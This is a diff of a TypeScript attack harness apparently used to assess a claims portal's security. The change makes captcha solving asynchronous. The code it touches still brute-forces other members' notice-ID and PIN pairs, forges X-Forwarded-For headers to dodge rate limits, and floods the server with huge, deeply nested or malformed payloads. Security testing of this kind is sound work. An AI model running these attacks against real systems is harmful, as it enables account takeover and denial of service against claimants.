@@ -65,10 +65,10 @@ async function openSession(client: Client, cookie?: string): Promise<Session> {
   return { client, cookie: cookieFrom(answer) ?? cookie ?? '', csrfToken: token };
 }
 
-function authorizeBody(context: AttackContext, noticeId: string, pin: string, captcha = true): string {
+async function authorizeBody(context: AttackContext, noticeId: string, pin: string, captcha = true): Promise<string> {
   return JSON.stringify({
     credentials: model(context.configs, 'Credentials', { noticeId, pin }),
-    reCaptchaResponse: captcha ? context.solveCaptcha() : null,
+    reCaptchaResponse: captcha ? await context.solveCaptcha() : null,
   });
 }
 
@@ -87,7 +87,10 @@ async function authorize(session: Session, body: string): Promise<Answer> {
 /** A session signed in as the attacker's own member, with its current CSRF token. */
 async function signedIn(context: AttackContext, client: Client): Promise<Session | undefined> {
   const session = await openSession(client);
-  const answer = await authorize(session, authorizeBody(context, context.ownMember.noticeId, context.ownMember.pin));
+  const answer = await authorize(
+    session,
+    await authorizeBody(context, context.ownMember.noticeId, context.ownMember.pin),
+  );
   if (answer.status !== 200) return undefined;
   return openSession(client, session.cookie);
 }
@@ -163,7 +166,7 @@ const fieldKeys = (context: AttackContext, dtoMapping: string) =>
   )?.fields?.map((field) => field.key) ?? [];
 
 /** A Standard claim's multipart body with the models' fields replaced. */
-function claimWith(
+async function claimWith(
   context: AttackContext,
   fields: Partial<Record<'ClaimantInfo' | 'PaymentElection' | 'ClaimDetails', Fields>>,
   extra: Record<string, unknown> = {},
@@ -173,7 +176,7 @@ function claimWith(
     JSON.stringify({ ...model(context.configs, dtoMapping, values), ...extra });
   const member = context.ownMember;
   return multipart([
-    ['reCaptchaResponse', context.solveCaptcha()],
+    ['reCaptchaResponse', await context.solveCaptcha()],
     ['userPreferredCulture', 'en'],
     ['captchaRawValue', ''],
     ['signature', signature],
@@ -216,8 +219,8 @@ const validation: Attack = {
       };
     };
     return signedInFlood(context, [
-      claimWith(context, baitEverywhere(10_000)),
-      claimWith(context, { ClaimantInfo: { ...alexClaimantInfo, email: emailBait(120_000) } }),
+      await claimWith(context, baitEverywhere(10_000)),
+      await claimWith(context, { ClaimantInfo: { ...alexClaimantInfo, email: emailBait(120_000) } }),
     ]);
   },
 };
@@ -299,7 +302,7 @@ const forgedAddresses: Attack = {
             cookie: session.cookie,
             'x-forwarded-for': `203.0.${(n >> 8) & 255}.${n & 255}`,
           },
-          body: authorizeBody(context, randomNoticeId(), '000000'),
+          body: await authorizeBody(context, randomNoticeId(), '000000'),
         });
         count(outcomes, answer.status);
       });
@@ -328,7 +331,7 @@ const lockout: Attack = {
             guess % 2 === 0
               ? (context.claimantMembers[(n + guess) % context.claimantMembers.length]?.noticeId ?? randomNoticeId())
               : randomNoticeId();
-          const answer = await authorize(session, authorizeBody(context, target, String(100000 + guess)));
+          const answer = await authorize(session, await authorizeBody(context, target, String(100000 + guess)));
           count(outcomes, answer.status);
         }
       } finally {
@@ -386,7 +389,7 @@ const nestedJson: Attack = {
     const deep = nested(50_000);
     let n = 0;
     const body = multipart([
-      ['reCaptchaResponse', context.solveCaptcha()],
+      ['reCaptchaResponse', await context.solveCaptcha()],
       ['userPreferredCulture', 'en'],
       ['signature', 'A'],
       ['claimantInfo', deep],
@@ -431,7 +434,7 @@ const refusedFloods: Attack = {
       return await loop(context, async (outcomes) => {
         // A new session every time (never pruned before), each attempt refused for its missing captcha.
         const session = await openSession(client);
-        const answer = await authorize(session, authorizeBody(context, randomNoticeId(), '123456', false));
+        const answer = await authorize(session, await authorizeBody(context, randomNoticeId(), '123456', false));
         count(outcomes, answer.status);
       });
     } finally {
@@ -446,7 +449,7 @@ const looseAnswers: Attack = {
   finding: '8. loose stored answers (metadata, ids, checkbox strings, bidi and NUL in names)',
   async run(context) {
     return signedInFlood(context, [
-      claimWith(
+      await claimWith(
         context,
         {},
         {
@@ -455,8 +458,8 @@ const looseAnswers: Attack = {
           clientId: 'x'.repeat(60),
         },
       ),
-      claimWith(context, { ClaimantInfo: { ...alexClaimantInfo, receiveUpdates: 'y'.repeat(9_000) } }),
-      claimWith(
+      await claimWith(context, { ClaimantInfo: { ...alexClaimantInfo, receiveUpdates: 'y'.repeat(9_000) } }),
+      await claimWith(
         context,
         { ClaimantInfo: { ...alexClaimantInfo, firstName: 'Al\u202Eex\u200B\u0000' } },
         {},
@@ -493,7 +496,7 @@ const smallerHoles: Attack = {
             const document = documents[n % 2]!;
             const answer = await submit(
               session,
-              standardClaimBody(context.configs, context.ownMember, document, context.solveCaptcha()),
+              standardClaimBody(context.configs, context.ownMember, document, await context.solveCaptcha()),
             );
             return count(outcomes, `upload ${answer.status}`);
           }
